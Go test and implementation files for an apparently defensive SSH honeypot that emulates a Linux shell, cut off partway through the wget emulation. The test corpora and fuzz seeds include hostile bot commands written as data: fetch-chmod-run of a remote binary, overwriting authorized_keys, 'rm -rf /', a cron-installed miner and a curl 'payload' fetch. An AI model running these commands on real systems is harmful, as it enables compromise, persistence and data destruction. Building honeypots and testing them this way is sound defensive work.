package shell

import (
	"strings"
	"testing"
)

// run is a terse helper: fresh shell, one line, returns output.
func run(t *testing.T, line string) string {
	t.Helper()
	return newTestShell().Run(line)
}

func TestCmdPwdLsCd(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("pwd"); out != "/root\n" {
		t.Errorf("pwd = %q", out)
	}
	out := sh.Run("ls /")
	for _, want := range []string{"bin", "etc", "tmp", "usr", "var"} {
		if !strings.Contains(out, want) {
			t.Errorf("ls / missing %q: %q", want, out)
		}
	}
	// Hidden files only with -a.
	sh.Run("touch /root/.hidden")
	if out := sh.Run("ls /root"); strings.Contains(out, ".hidden") {
		t.Error("ls shows dotfiles without -a")
	}
	if out := sh.Run("ls -la /root"); !strings.Contains(out, ".hidden") {
		t.Errorf("ls -la hides dotfiles: %q", out)
	}
	if out := sh.Run("ls -l /etc/passwd"); !strings.Contains(out, "-rwx") {
		t.Errorf("ls -l = %q", out)
	}
	if out := sh.Run("ls /nope"); !strings.Contains(out, "cannot access") {
		t.Errorf("ls missing = %q", out)
	}
}

func TestCmdCpMv(t *testing.T) {
	sh := newTestShell()
	sh.Run("echo data > /tmp/src")
	sh.Run("cp /tmp/src /tmp/dst")
	if out := sh.Run("cat /tmp/dst"); out != "data\n" {
		t.Errorf("cp: %q", out)
	}
	// cp into a directory.
	sh.Run("mkdir /tmp/d; cp /tmp/src /tmp/d")
	if !sh.FS.Exists("/tmp/d/src") {
		t.Error("cp into directory failed")
	}
	sh.Run("mv /tmp/dst /tmp/moved")
	if sh.FS.Exists("/tmp/dst") || !sh.FS.Exists("/tmp/moved") {
		t.Error("mv failed")
	}
	if out := sh.Run("cp /missing /tmp/x"); !strings.Contains(out, "cannot stat") {
		t.Errorf("cp missing = %q", out)
	}
	if out := sh.Run("mv /missing /tmp/x"); !strings.Contains(out, "cannot stat") {
		t.Errorf("mv missing = %q", out)
	}
	if out := sh.Run("cp onlyone"); !strings.Contains(out, "missing file operand") {
		t.Errorf("cp arity = %q", out)
	}
}

func TestCmdSystemInfo(t *testing.T) {
	checks := map[string]string{
		"id":            "uid=0(root)",
		"whoami":        "root",
		"hostname":      "svr04",
		"nproc":         "2",
		"uptime":        "load average",
		"w":             "USER",
		"lscpu":         "Architecture",
		"df -h":         "Filesystem",
		"mount":         "ext4",
		"ifconfig":      "eth0",
		"ip a":          "inet",
		"netstat -tlpn": "LISTEN",
		"ps aux":        "PID",
		"top":           "load average",
		"last":          "reboot",
		"lspci":         "Ethernet controller",
		"free":          "Mem:",
	}
	for cmd, want := range checks {
		if out := run(t, cmd); !strings.Contains(out, want) {
			t.Errorf("%s = %q, want contains %q", cmd, out, want)
		}
	}
}

func TestCmdFreeMegabytes(t *testing.T) {
	out := run(t, "free -m")
	if !strings.Contains(out, "2000") {
		t.Errorf("free -m should report ~2000 MB: %q", out)
	}
}

func TestCmdCrontab(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("crontab -l"); !strings.Contains(out, "no crontab for root") {
		t.Errorf("crontab -l = %q", out)
	}
	sh.Run("echo '* * * * * /tmp/.miner' > /tmp/cr")
	sh.Run("crontab /tmp/cr")
	if out := sh.Run("crontab -l"); !strings.Contains(out, ".miner") {
		t.Errorf("crontab after install = %q", out)
	}
	sh.Run("crontab -r")
	if out := sh.Run("crontab -l"); !strings.Contains(out, "no crontab") {
		t.Errorf("crontab after -r = %q", out)
	}
	if out := sh.Run("crontab /missing"); !strings.Contains(out, "No such file") {
		t.Errorf("crontab missing file = %q", out)
	}
	// Piped install: echo line | crontab -
	sh2 := newTestShell()
	sh2.Run("echo '@reboot /tmp/x' | crontab")
	if !sh2.StateChanged() {
		t.Error("piped crontab must change state")
	}
}

func TestCmdPasswdFamily(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("passwd"); !strings.Contains(out, "updated successfully") {
		t.Errorf("passwd = %q", out)
	}
	if !sh.StateChanged() {
		t.Error("passwd must modify shadow")
	}
}

func TestCmdWhich(t *testing.T) {
	if out := run(t, "which wget curl"); !strings.Contains(out, "/usr/bin/wget") || !strings.Contains(out, "/usr/bin/curl") {
		t.Errorf("which = %q", out)
	}
	sh := newTestShell()
	if _, code := sh.eval("which notacommand", ""); code == 0 {
		t.Error("which unknown should fail")
	}
}

func TestCmdGrepModes(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("grep root /etc/passwd"); !strings.Contains(out, "root:x:0:0") {
		t.Errorf("grep file = %q", out)
	}
	if out := sh.Run("grep -c root /etc/passwd"); out != "1\n" {
		t.Errorf("grep -c = %q", out)
	}
	if out := sh.Run("grep -v root /etc/passwd | wc -l"); out != "3\n" {
		t.Errorf("grep -v | wc -l = %q", out)
	}
	if out := sh.Run("grep -i ROOT /etc/passwd"); !strings.Contains(out, "root") {
		t.Errorf("grep -i = %q", out)
	}
	if _, code := sh.eval("grep absent /etc/passwd", ""); code != 1 {
		t.Error("grep without match should exit 1")
	}
}

func TestCmdHeadTailSortWc(t *testing.T) {
	sh := newTestShell()
	sh.Run(`echo -e "c\na\nb" > /tmp/f`)
	if out := sh.Run("head -n 1 /tmp/f"); out != "c\n" {
		t.Errorf("head = %q", out)
	}
	if out := sh.Run("cat /tmp/f | tail -n 1"); out != "b\n" {
		t.Errorf("tail = %q", out)
	}
	if out := sh.Run("cat /tmp/f | sort"); out != "a\nb\nc\n" {
		t.Errorf("sort = %q", out)
	}
	if out := sh.Run("cat /tmp/f | wc"); !strings.Contains(out, "3") {
		t.Errorf("wc = %q", out)
	}
	if out := sh.Run("head -2 /tmp/f"); out != "c\na\n" {
		t.Errorf("head -N = %q", out)
	}
	if out := sh.Run("head /missing"); !strings.Contains(out, "cannot open") {
		t.Errorf("head missing = %q", out)
	}
}

func TestCmdTrCutXargs(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("echo abc | tr ab xy"); out != "xyc\n" {
		t.Errorf("tr = %q", out)
	}
	if out := sh.Run("echo a:b:c | cut -d: -f2"); out != "b\n" {
		t.Errorf("cut = %q", out)
	}
	if out := sh.Run("echo '-a' | xargs uname"); out != "Linux svr04 5.10.0-8-amd64 #1 SMP Debian 5.10.46-4 (2021-08-03) x86_64 GNU/Linux\n" {
		t.Errorf("xargs = %q", out)
	}
}

func TestCmdHashes(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("sha256sum /etc/hostname")
	if len(strings.Fields(out)) != 2 || len(strings.Fields(out)[0]) != 64 {
		t.Errorf("sha256sum = %q", out)
	}
	if out := sh.Run("sha256sum /missing"); !strings.Contains(out, "No such file") {
		t.Errorf("sha256sum missing = %q", out)
	}
	if out := sh.Run("echo x | sha256sum"); !strings.Contains(out, "-") {
		t.Errorf("sha256sum stdin = %q", out)
	}
}

func TestCmdBase64Encode(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("echo -n hi | base64"); out != "aGk=\n" {
		t.Errorf("base64 = %q", out)
	}
	if out := sh.Run("echo '!!!notb64' | base64 -d"); !strings.Contains(out, "invalid input") {
		t.Errorf("base64 -d garbage = %q", out)
	}
}

func TestCmdOpensslPasswd(t *testing.T) {
	out := run(t, "openssl passwd -1 abcd1234")
	if !strings.HasPrefix(out, "$1$") {
		t.Errorf("openssl passwd = %q", out)
	}
	if out := run(t, "openssl version"); !strings.Contains(out, "OpenSSL") {
		t.Errorf("openssl = %q", out)
	}
}

func TestCmdAptFamily(t *testing.T) {
	if out := run(t, "apt-get update"); !strings.Contains(out, "Reading package lists") {
		t.Errorf("apt-get = %q", out)
	}
	if out := run(t, "apt install clamav"); !strings.Contains(out, "Unable to locate") {
		t.Errorf("apt install = %q", out)
	}
}

func TestCmdDd(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("dd if=/proc/self/exe bs=4 count=1")
	if !strings.Contains(out, "\x7fELF") {
		t.Errorf("dd = %q", out)
	}
	if out := sh.Run("dd if=/missing"); !strings.Contains(out, "failed to open") {
		t.Errorf("dd missing = %q", out)
	}
	if out := sh.Run("dd bs=1"); out != "" {
		t.Errorf("dd without if = %q", out)
	}
}

func TestCmdTouchAndChmodErrors(t *testing.T) {
	sh := newTestShell()
	sh.Run("touch /tmp/t1 /tmp/t2")
	if !sh.FS.Exists("/tmp/t1") || !sh.FS.Exists("/tmp/t2") {
		t.Error("touch failed")
	}
	if out := sh.Run("chmod 755 /missing"); !strings.Contains(out, "cannot access") {
		t.Errorf("chmod missing = %q", out)
	}
	if out := sh.Run("chmod +x /tmp/t1"); out != "" {
		t.Errorf("chmod symbolic = %q", out)
	}
}

func TestCmdMkdirErrors(t *testing.T) {
	sh := newTestShell()
	sh.Run("mkdir /tmp/m")
	if out := sh.Run("mkdir /tmp/m"); !strings.Contains(out, "File exists") {
		t.Errorf("mkdir dup = %q", out)
	}
	if out := sh.Run("mkdir -p /tmp/m/a/b/c"); out != "" {
		t.Errorf("mkdir -p = %q", out)
	}
	if !sh.FS.Exists("/tmp/m/a/b/c") {
		t.Error("mkdir -p failed")
	}
}

func TestCmdRmErrors(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("rm /missing"); !strings.Contains(out, "cannot remove") {
		t.Errorf("rm missing = %q", out)
	}
	if out := sh.Run("rm -f /missing"); out != "" {
		t.Errorf("rm -f must be silent: %q", out)
	}
}

func TestCmdUnsetAndSet(t *testing.T) {
	sh := newTestShell()
	sh.Run("export FOO=1")
	sh.Run("unset FOO")
	if out := sh.Run("echo [$FOO]"); out != "[]\n" {
		t.Errorf("unset = %q", out)
	}
	if out := sh.Run("set"); out != "" {
		t.Errorf("set = %q", out)
	}
}

func TestCmdHistoryNumbering(t *testing.T) {
	sh := newTestShell()
	sh.Run("uname")
	sh.Run("id")
	out := sh.Run("history")
	if !strings.Contains(out, "1  uname") || !strings.Contains(out, "2  id") {
		t.Errorf("history = %q", out)
	}
}

func TestCmdWgetVariants(t *testing.T) {
	sh := newTestShell()
	// Bare host gets http:// prepended and index.html.
	sh.Run("cd /tmp; wget 198.51.100.4")
	if !sh.FS.Exists("/tmp/index.html") {
		t.Error("wget bare host should save index.html")
	}
	// -q suppresses output; -O picks the name.
	if out := sh.Run("wget -q http://198.51.100.4/a -O /tmp/named"); out != "" {
		t.Errorf("wget -q = %q", out)
	}
	if !sh.FS.Exists("/tmp/named") {
		t.Error("wget -O failed")
	}
	if out := sh.Run("wget"); !strings.Contains(out, "missing URL") {
		t.Errorf("wget no args = %q", out)
	}
}

func TestCmdCurlDashO(t *testing.T) {
	sh := newTestShell()
	sh.Run("cd /tmp; curl -o out.bin http://198.51.100.4/payload")
	if !sh.FS.Exists("/tmp/out.bin") {
		t.Error("curl -o failed")
	}
	if out := sh.Run("curl"); !strings.Contains(out, "curl:") {
		t.Errorf("curl no args = %q", out)
	}
}

func TestCmdBusyboxBanner(t *testing.T) {
	out := run(t, "busybox")
	if !strings.Contains(out, "BusyBox v") {
		t.Errorf("busybox banner = %q", out)
	}
	// Dispatched applets run the real builtin.
	if out := run(t, "busybox echo hi"); out != "hi\n" {
		t.Errorf("busybox echo = %q", out)
	}
}

func TestCmdTftpUsage(t *testing.T) {
	if out := run(t, "tftp"); !strings.Contains(out, "usage") {
		t.Errorf("tftp usage = %q", out)
	}
	if out := run(t, "ftpget host"); !strings.Contains(out, "usage") {
		t.Errorf("ftpget usage = %q", out)
	}
}

func TestUnameDefaultAndUnknownFlags(t *testing.T) {
	if out := run(t, "uname -z"); out != "Linux\n" {
		t.Errorf("uname unknown flag = %q", out)
	}
}

func TestVarAssignmentPrefixNotCommand(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("LANG=C"); out != "" {
		t.Errorf("assignment output = %q", out)
	}
	if out := sh.Run("echo $LANG"); out != "C\n" {
		t.Errorf("assignment not stored: %q", out)
	}
}

func TestCmdPrintfDropsELF(t *testing.T) {
	sh := newTestShell()
	sh.Run(`printf '\x7f\x45\x4c\x46\x02' > /tmp/drop`)
	content, err := sh.FS.ReadFile("/tmp/drop")
	if err != nil || string(content) != "\x7fELF\x02" {
		t.Fatalf("printf drop = %x, %v", content, err)
	}
	if out := sh.Run(`printf '%s-%s\n' a b`); out != "a-b\n" {
		t.Errorf("printf format = %q", out)
	}
	if out := sh.Run(`printf '%%'`); out != "%" {
		t.Errorf("printf %%%% = %q", out)
	}
	if _, code := sh.eval("printf", ""); code != 1 {
		t.Error("printf without args should fail")
	}
}

func TestCmdEnvSorted(t *testing.T) {
	sh := newTestShell()
	out := sh.Run("env")
	if !strings.Contains(out, "SHELL=/bin/bash") || !strings.Contains(out, "HOME=/root") {
		t.Errorf("env = %q", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	for i := 1; i < len(lines); i++ {
		if lines[i-1] > lines[i] {
			t.Errorf("env unsorted: %v", lines)
		}
	}
}

func TestCmdLnStatFile(t *testing.T) {
	sh := newTestShell()
	sh.Run("echo data > /tmp/orig")
	sh.Run("ln -s /tmp/orig /tmp/link")
	if out := sh.Run("cat /tmp/link"); out != "data\n" {
		t.Errorf("ln = %q", out)
	}
	if out := sh.Run("stat /tmp/orig"); !strings.Contains(out, "regular file") {
		t.Errorf("stat = %q", out)
	}
	if out := sh.Run("stat /tmp"); !strings.Contains(out, "directory") {
		t.Errorf("stat dir = %q", out)
	}
	if out := sh.Run("stat /missing"); !strings.Contains(out, "cannot stat") {
		t.Errorf("stat missing = %q", out)
	}
	if out := sh.Run("file /bin/busybox"); !strings.Contains(out, "ELF") {
		t.Errorf("file elf = %q", out)
	}
	if out := sh.Run("file /etc/init.d/ssh"); !strings.Contains(out, "shell script") {
		t.Errorf("file script = %q", out)
	}
	if out := sh.Run("file /etc/hostname"); !strings.Contains(out, "ASCII text") {
		t.Errorf("file text = %q", out)
	}
}

func TestCmdFind(t *testing.T) {
	sh := newTestShell()
	sh.Run("mkdir -p /tmp/a/b; echo x > /tmp/a/b/.hidden.sh; echo y > /tmp/a/top.sh")
	out := sh.Run("find /tmp -name '*.sh'")
	if !strings.Contains(out, "/tmp/a/b/.hidden.sh") || !strings.Contains(out, "/tmp/a/top.sh") {
		t.Errorf("find -name = %q", out)
	}
	if out := sh.Run("find /missing"); !strings.Contains(out, "No such file") {
		t.Errorf("find missing = %q", out)
	}
	out = sh.Run("find /tmp/a")
	if !strings.Contains(out, "/tmp/a\n") {
		t.Errorf("find dir should include root: %q", out)
	}
}

func TestCmdNohupRunsWrapped(t *testing.T) {
	sh := newTestShell()
	if out := sh.Run("nohup uname -s"); out != "Linux\n" {
		t.Errorf("nohup = %q", out)
	}
	if out := sh.Run("setsid whoami"); out != "root\n" {
		t.Errorf("setsid = %q", out)
	}
	if out := sh.Run("nohup"); !strings.Contains(out, "missing operand") {
		t.Errorf("nohup bare = %q", out)
	}
}

func TestCmdNetworkInfoExtras(t *testing.T) {
	for cmd, want := range map[string]string{
		"dmesg": "Linux version",
		"route": "Kernel IP routing table",
		"arp":   "HWaddress",
		"date":  "UTC",
	} {
		if out := run(t, cmd); !strings.Contains(out, want) {
			t.Errorf("%s = %q", cmd, out)
		}
	}
}
