package shell

import (
	"strings"
	"testing"
	"testing/quick"
)

// TestShellNeverPanicsOnArbitraryInput feeds fuzz-like input through the
// full interpreter: the honeypot must survive anything an attacker types.
func TestShellNeverPanicsOnArbitraryInput(t *testing.T) {
	f := func(line string) bool {
		sh := newTestShell()
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("panic on input %q: %v", line, r)
			}
		}()
		sh.Run(line)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// TestShellSurvivesHostileCorpus runs a corpus of deliberately nasty
// inputs observed in honeypot traffic or constructed to stress parsing.
func TestShellSurvivesHostileCorpus(t *testing.T) {
	corpus := []string{
		"",
		" ",
		";;;;;;;",
		"&&&&",
		"||||",
		"|||",
		"| | |",
		`"`,
		`'`,
		"`",
		"$(",
		"$()",
		"$($($($(uname))))",
		"``````",
		"\\",
		"\\\\\\",
		">>",
		"> > >",
		"2>&1 2>&1 2>&1",
		"echo " + strings.Repeat("a", 10000),
		strings.Repeat("cd /tmp;", 500),
		strings.Repeat("$(", 50) + strings.Repeat(")", 50),
		"echo $" + strings.Repeat("{", 100),
		"rm -rf /",
		"rm -rf /*",
		"cat /dev/urandom",
		"cd ..; cd ..; cd ..; cd ..; pwd",
		"echo \x00\x01\x02\xff",
		"wget",
		"curl",
		"tftp",
		"chmod",
		"sh -c",
		"sh -c ''",
		"busybox",
		"echo -e '\\x'",
		"echo -e '\\",
		"export =x",
		"A=1 B=2 C=3",
		"ls " + strings.Repeat("../", 200),
		"mkdir " + strings.Repeat("d/", 100),
		"head -n -5 /etc/passwd",
		"tail -99999999999999999999 /etc/passwd",
		"grep -c '' /etc/passwd",
		"awk '{print $99}'",
		"cut -d -f",
		"xargs xargs xargs",
		"history; history; history",
	}
	for _, line := range corpus {
		sh := newTestShell()
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("panic on corpus input %q: %v", line, r)
				}
			}()
			sh.Run(line)
		}()
	}
}

// TestRunAlwaysRecordsCommand: every non-empty input line lands in the
// session command log exactly once, no matter how malformed.
func TestRunAlwaysRecordsCommand(t *testing.T) {
	f := func(line string) bool {
		trimmed := strings.TrimSpace(line)
		sh := newTestShell()
		sh.Run(line)
		if trimmed == "" {
			return len(sh.Commands()) == 0
		}
		return len(sh.Commands()) == 1 && sh.Commands()[0].Raw == trimmed
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestRootDirectoryIndestructible: whatever the attacker does, the
// filesystem root survives and the shell stays usable.
func TestRootDirectoryIndestructible(t *testing.T) {
	sh := newTestShell()
	sh.Run("rm -rf /")
	sh.Run("rm -rf /*")
	sh.Run("cd /")
	if out := sh.Run("pwd"); out != "/\n" {
		t.Errorf("pwd after rm -rf / = %q", out)
	}
}

// TestSegmentsAndWordsNeverPanic covers the tokenizers directly.
func TestSegmentsAndWordsNeverPanic(t *testing.T) {
	f := func(text string) bool {
		segs := splitSegments(text)
		for _, s := range segs {
			splitWords(s.text)
		}
		splitWords(text)
		decodeEchoEscapes(text)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

// TestSplitSegmentsNoEmptySegments: the segment splitter never emits
// empty command texts.
func TestSplitSegmentsNoEmptySegments(t *testing.T) {
	f := func(text string) bool {
		for _, s := range splitSegments(text) {
			if strings.TrimSpace(s.text) == "" {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}
