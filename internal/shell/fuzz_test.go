package shell

import (
	"strings"
	"testing"
)

// FuzzShellRun drives the full interpreter with fuzzer-generated input.
// The honeypot's contract: never panic, always record the line.
func FuzzShellRun(f *testing.F) {
	seeds := []string{
		`echo -e "\x6F\x6B"`,
		`cd /tmp; wget http://1.2.3.4/x; chmod 777 x; sh x; rm -rf x`,
		`cd ~ && rm -rf .ssh && mkdir .ssh && echo "key">>.ssh/authorized_keys`,
		`cat /proc/cpuinfo | grep name | wc -l`,
		`/bin/busybox ABCDE`,
		`echo "root:pass"|chpasswd|bash`,
		`ls -lh $(which ls)`,
		"a && b || c; d | e",
		"printf '\\x7f\\x45\\x4c\\x46' > /tmp/e; file /tmp/e",
		"$((((", "`\\", ">>>", "2>&1|",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		sh := New("svr04", func(string) ([]byte, error) { return []byte("x"), nil })
		sh.Run(line)
		if strings.TrimSpace(line) != "" && len(sh.Commands()) != 1 {
			t.Fatalf("input %q recorded %d commands", line, len(sh.Commands()))
		}
	})
}

// FuzzTokenizers covers the lexer layers in isolation.
func FuzzTokenizers(f *testing.F) {
	f.Add(`echo "a b" 'c' \d>>out`)
	f.Add("a;b&&c||d|e&f\ng")
	f.Fuzz(func(t *testing.T, text string) {
		for _, seg := range splitSegments(text) {
			if strings.TrimSpace(seg.text) == "" {
				t.Fatal("empty segment emitted")
			}
			splitWords(seg.text)
		}
		decodeEchoEscapes(text)
	})
}
