package shell

import (
	"encoding/base64"
	"fmt"
	"sort"
	"strconv"
	"strings"

	"honeynet/internal/vfs"
)

// builtinFunc executes one emulated command: args (no command name),
// stdin text; returns stdout text and exit status.
type builtinFunc func(sh *Shell, args []string, stdin string) (string, int)

// builtins maps command base names to their emulations. This is the
// honeypot's "known command" set; anything else is recorded as unknown.
var builtins map[string]builtinFunc

func init() {
	builtins = map[string]builtinFunc{
		"cd":        cmdCd,
		"pwd":       cmdPwd,
		"ls":        cmdLs,
		"echo":      cmdEcho,
		"cat":       cmdCat,
		"rm":        cmdRm,
		"mkdir":     cmdMkdir,
		"cp":        cmdCp,
		"mv":        cmdMv,
		"chmod":     cmdChmod,
		"chown":     cmdOk,
		"chattr":    cmdOk,
		"touch":     cmdTouch,
		"wget":      cmdWget,
		"curl":      cmdCurl,
		"tftp":      cmdTftp,
		"ftpget":    cmdFtpget,
		"uname":     cmdUname,
		"id":        cmdId,
		"whoami":    cmdWhoami,
		"hostname":  cmdHostname,
		"nproc":     cmdNproc,
		"uptime":    cmdUptime,
		"w":         cmdW,
		"free":      cmdFree,
		"ps":        cmdPs,
		"top":       cmdTop,
		"kill":      cmdOk,
		"pkill":     cmdOk,
		"killall":   cmdOk,
		"crontab":   cmdCrontab,
		"passwd":    cmdPasswd,
		"chpasswd":  cmdChpasswd,
		"export":    cmdExport,
		"set":       cmdOk,
		"unset":     cmdUnset,
		"which":     cmdWhich,
		"grep":      cmdGrep,
		"egrep":     cmdGrep,
		"wc":        cmdWc,
		"head":      cmdHead,
		"tail":      cmdTail,
		"sort":      cmdSort,
		"history":   cmdHistory,
		"lscpu":     cmdLscpu,
		"df":        cmdDf,
		"mount":     cmdMount,
		"ifconfig":  cmdIfconfig,
		"ip":        cmdIp,
		"netstat":   cmdNetstat,
		"sleep":     cmdOk,
		"sync":      cmdOk,
		"ulimit":    cmdOk,
		"stty":      cmdOk,
		"sh":        cmdSh,
		"bash":      cmdSh,
		"busybox":   cmdBusybox,
		"dd":        cmdDd,
		"apt":       cmdApt,
		"apt-get":   cmdApt,
		"yum":       cmdApt,
		"dnf":       cmdApt,
		"service":   cmdOk,
		"systemctl": cmdOk,
		"base64":    cmdBase64,
		"md5sum":    cmdHashFile,
		"sha256sum": cmdHashFile,
		"exit":      cmdExit,
		"logout":    cmdExit,
		"su":        cmdOk,
		"last":      cmdLast,
		"lspci":     cmdLspci,
		"openssl":   cmdOpenssl,
		"awk":       cmdAwk,
		"tr":        cmdTr,
		"cut":       cmdCut,
		"xargs":     cmdXargs,
		"true":      cmdOk,
		"false":     func(*Shell, []string, string) (string, int) { return "", 1 },
		"uptime2":   cmdUptime,
	}
}

func cmdOk(*Shell, []string, string) (string, int) { return "", 0 }

func cmdCd(sh *Shell, args []string, _ string) (string, int) {
	target := "/root"
	if len(args) > 0 {
		target = args[0]
	}
	if err := sh.FS.Chdir(target); err != nil {
		return fmt.Sprintf("-bash: cd: %s: No such file or directory\n", target), 1
	}
	sh.Env["PWD"] = sh.FS.Cwd()
	return "", 0
}

func cmdPwd(sh *Shell, _ []string, _ string) (string, int) {
	return sh.FS.Cwd() + "\n", 0
}

func cmdLs(sh *Shell, args []string, _ string) (string, int) {
	long := false
	all := false
	var paths []string
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			if strings.Contains(a, "l") {
				long = true
			}
			if strings.Contains(a, "a") {
				all = true
			}
			continue
		}
		paths = append(paths, a)
	}
	if len(paths) == 0 {
		paths = []string{sh.FS.Cwd()}
	}
	var b strings.Builder
	exit := 0
	for _, p := range paths {
		nodes, err := sh.FS.List(p)
		if err != nil {
			fmt.Fprintf(&b, "ls: cannot access '%s': No such file or directory\n", p)
			exit = 2
			continue
		}
		for _, n := range nodes {
			if !all && strings.HasPrefix(n.Name, ".") {
				continue
			}
			if long {
				kind := "-"
				if n.Dir {
					kind = "d"
				}
				fmt.Fprintf(&b, "%srwxr-xr-x 1 root root %8d %s %s\n",
					kind, n.Size, n.ModTime.Format("Jan _2 15:04"), n.Name)
			} else {
				b.WriteString(n.Name)
				b.WriteByte('\n')
			}
		}
	}
	return b.String(), exit
}

func cmdEcho(sh *Shell, args []string, _ string) (string, int) {
	interpret := false
	newline := true
	i := 0
	for i < len(args) && strings.HasPrefix(args[i], "-") {
		switch args[i] {
		case "-e":
			interpret = true
		case "-n":
			newline = false
		case "-ne", "-en":
			interpret = true
			newline = false
		default:
			goto done
		}
		i++
	}
done:
	out := strings.Join(args[i:], " ")
	if interpret {
		out = decodeEchoEscapes(out)
	}
	if newline {
		out += "\n"
	}
	return out, 0
}

func cmdCat(sh *Shell, args []string, stdin string) (string, int) {
	if len(args) == 0 {
		return stdin, 0
	}
	var b strings.Builder
	exit := 0
	for _, p := range args {
		if strings.HasPrefix(p, "-") {
			continue
		}
		content, err := sh.FS.ReadFile(p)
		if err != nil {
			fmt.Fprintf(&b, "cat: %s: No such file or directory\n", p)
			exit = 1
			continue
		}
		b.Write(content)
	}
	return b.String(), exit
}

func cmdRm(sh *Shell, args []string, _ string) (string, int) {
	recursive, force := false, false
	var paths []string
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			if strings.Contains(a, "r") || strings.Contains(a, "R") {
				recursive = true
			}
			if strings.Contains(a, "f") {
				force = true
			}
			continue
		}
		paths = append(paths, a)
	}
	var b strings.Builder
	exit := 0
	for _, p := range paths {
		if strings.ContainsAny(p, "*?") {
			// Glob deletion: emulate by clearing matching children.
			sh.removeGlob(p)
			continue
		}
		if err := sh.FS.Remove(p, recursive); err != nil && !force {
			fmt.Fprintf(&b, "rm: cannot remove '%s': No such file or directory\n", p)
			exit = 1
		}
	}
	return b.String(), exit
}

// removeGlob deletes children matching a trailing-star pattern like
// "/tmp/*" — the only glob form bots use in practice.
func (sh *Shell) removeGlob(pattern string) {
	dir := pattern[:strings.LastIndexByte(pattern, '/')+1]
	if dir == "" {
		dir = sh.FS.Cwd()
	}
	nodes, err := sh.FS.List(dir)
	if err != nil {
		return
	}
	suffix := pattern[strings.LastIndexByte(pattern, '/')+1:]
	for _, n := range nodes {
		if matchStar(suffix, n.Name) {
			_ = sh.FS.Remove(dir+"/"+n.Name, true)
		}
	}
}

// matchStar implements '*'-only glob matching.
func matchStar(pattern, name string) bool {
	parts := strings.Split(pattern, "*")
	if len(parts) == 1 {
		return pattern == name
	}
	if !strings.HasPrefix(name, parts[0]) {
		return false
	}
	name = name[len(parts[0]):]
	for _, part := range parts[1 : len(parts)-1] {
		i := strings.Index(name, part)
		if i < 0 {
			return false
		}
		name = name[i+len(part):]
	}
	return strings.HasSuffix(name, parts[len(parts)-1])
}

func cmdMkdir(sh *Shell, args []string, _ string) (string, int) {
	parents := false
	var paths []string
	for _, a := range args {
		if a == "-p" {
			parents = true
			continue
		}
		if strings.HasPrefix(a, "-") {
			continue
		}
		paths = append(paths, a)
	}
	var b strings.Builder
	exit := 0
	for _, p := range paths {
		var err error
		if parents {
			err = sh.FS.MkdirAll(p)
		} else {
			err = sh.FS.Mkdir(p)
		}
		if err != nil && !parents {
			fmt.Fprintf(&b, "mkdir: cannot create directory '%s': File exists\n", p)
			exit = 1
		}
	}
	return b.String(), exit
}

func cmdCp(sh *Shell, args []string, _ string) (string, int) {
	var paths []string
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			paths = append(paths, a)
		}
	}
	if len(paths) < 2 {
		return "cp: missing file operand\n", 1
	}
	content, err := sh.FS.ReadFile(paths[0])
	if err != nil {
		return fmt.Sprintf("cp: cannot stat '%s': No such file or directory\n", paths[0]), 1
	}
	dst := paths[len(paths)-1]
	if n, err := sh.FS.Stat(dst); err == nil && n.Dir {
		dst = dst + "/" + paths[0][strings.LastIndexByte(paths[0], '/')+1:]
	}
	_ = sh.FS.WriteFile(dst, content)
	return "", 0
}

func cmdMv(sh *Shell, args []string, _ string) (string, int) {
	var paths []string
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			paths = append(paths, a)
		}
	}
	if len(paths) < 2 {
		return "mv: missing file operand\n", 1
	}
	if err := sh.FS.Rename(paths[0], paths[1]); err != nil {
		return fmt.Sprintf("mv: cannot stat '%s': No such file or directory\n", paths[0]), 1
	}
	return "", 0
}

func cmdChmod(sh *Shell, args []string, _ string) (string, int) {
	var paths []string
	mode := uint32(0o755)
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue // -R etc.
		}
		if m, err := strconv.ParseUint(a, 8, 32); err == nil && len(paths) == 0 && !strings.Contains(a, "/") {
			mode = uint32(m)
			continue
		}
		if strings.ContainsAny(a, "+-=") && !strings.Contains(a, "/") && len(paths) == 0 {
			continue // symbolic mode like +x, go=
		}
		paths = append(paths, a)
	}
	var b strings.Builder
	exit := 0
	for _, p := range paths {
		if err := sh.FS.Chmod(p, mode); err != nil {
			fmt.Fprintf(&b, "chmod: cannot access '%s': No such file or directory\n", p)
			exit = 1
		}
	}
	return b.String(), exit
}

func cmdTouch(sh *Shell, args []string, _ string) (string, int) {
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if !sh.FS.Exists(a) {
			_ = sh.FS.WriteFile(a, nil)
		}
	}
	return "", 0
}

func cmdWget(sh *Shell, args []string, _ string) (string, int) {
	var uri, output string
	quiet := false
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-O" || a == "--output-document":
			if i+1 < len(args) {
				output = args[i+1]
				i++
			}
		case a == "-q" || a == "--quiet":
			quiet = true
		case strings.HasPrefix(a, "-"):
		default:
			if uri == "" {
				uri = a
			}
		}
	}
	if uri == "" {
		return "wget: missing URL\n", 1
	}
	if !strings.Contains(uri, "://") {
		uri = "http://" + uri
